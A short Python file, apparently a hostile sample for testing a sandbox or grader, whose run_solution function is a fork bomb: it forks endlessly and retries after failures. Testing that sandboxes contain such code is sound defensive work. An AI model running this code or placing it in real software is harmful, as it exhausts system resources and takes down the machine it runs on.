"""Forks without end."""

import os
import time


def run_solution(config):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.2)
